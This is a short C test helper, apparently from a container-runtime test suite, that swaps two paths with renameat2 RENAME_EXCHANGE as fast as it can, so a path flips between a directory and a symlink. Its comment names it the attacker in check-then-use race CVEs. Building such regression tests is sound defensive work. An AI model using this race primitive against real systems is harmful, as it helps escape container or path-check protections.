/* SPDX-License-Identifier: GPL-2.0-or-later */
/* racer exchange A B N: swaps the names A and B (renameat2 RENAME_EXCHANGE)
 * N times, as fast as it can, then sleeps until killed.  With A a directory
 * and B a symlink, the path A is one and then the other: the attacker of the
 * check-then-use races (CVE-2021-30465, CVE-2024-45310, CVE-2025-52881).
 * Prints "racing" when it starts and "raced N" when done. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
        if (argc != 5 || strcmp(argv[1], "exchange") != 0) {
                fprintf(stderr, "usage: racer exchange A B N\n");
                return 2;
        }
        long n = atol(argv[4]), i;
        printf("racing\n");
        fflush(stdout);
        for (i = 0; i < n; i++)
                if (syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE) < 0 && errno != ENOENT) {
                        perror("renameat2");
                        return 1;
                }
        printf("raced %ld\n", i);
        fflush(stdout);
        for (;;)
                pause();
}
